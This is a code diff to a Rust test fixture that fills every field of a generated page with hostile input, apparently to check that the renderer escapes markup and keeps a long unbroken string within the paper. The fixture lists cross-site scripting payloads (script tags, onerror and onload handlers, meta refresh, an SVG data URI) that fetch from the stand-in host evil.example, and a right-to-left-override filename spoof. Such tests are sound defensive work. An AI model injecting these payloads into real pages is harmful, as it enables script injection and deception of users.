@@ -144,7 +144,8 @@ fn qr_svg(bytes: &[u8]) -> Option<String> {
 
 /// A page whose every field is hostile (see the module documentation).
 fn hostile(lang: Lang) -> PageInput {
-    const TEXT: &[&str] = &[
+    let long = "W".repeat(400);
+    let text: &[&str] = &[
         "<script>fetch('https://evil.example/script')</script>",
         "\"><img src=https://evil.example/img onerror=\"fetch('https://evil.example/onerror')\">",
         "'><svg onload=fetch('https://evil.example/svg')>",
@@ -154,6 +155,8 @@ fn hostile(lang: Lang) -> PageInput {
         "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/refresh\">",
         "<link rel=\"stylesheet\" href=\"https://evil.example/link.css\">",
         "\u{202e}gnp.exe — {name} {domain}",
+        // No space to break at: the page must still fit the paper.
+        &long,
     ];
     // An SVG picture that would fetch and script if it were inline markup; shown as an image, it can do neither.
     let svg = svg_data_uri(
@@ -171,11 +174,11 @@ fn hostile(lang: Lang) -> PageInput {
             .to_owned(),
         "data:image/svg+xml,<svg onload=fetch('https://evil.example/svg-onload')>".to_owned(),
     ];
-    let entries = TEXT
+    let entries = text
         .iter()
         .enumerate()
-        .map(|(i, text)| {
-            let s = (*text).to_owned();
+        .map(|(i, t)| {
+            let s = (*t).to_owned();
             PageEntry {
                 name: Some(s.clone()),
                 description: Some(s.clone()),
@@ -208,14 +211,14 @@ fn hostile(lang: Lang) -> PageInput {
         .collect();
     PageInput {
         language: lang,
-        learner_name: TEXT.join(" "),
+        learner_name: text.join(" "),
         generated_at: NOW,
         entries,
         presentation: Some(Presentation {
-            text: TEXT.join("\n"),
-            holder: Some(TEXT[0].to_owned()),
-            domain: Some(TEXT[1].to_owned()),
-            challenge: Some(TEXT[2].to_owned()),
+            text: text.join("\n"),
+            holder: Some(text[0].to_owned()),
+            domain: Some(text[1].to_owned()),
+            challenge: Some(text[2].to_owned()),
         }),
     }
 }
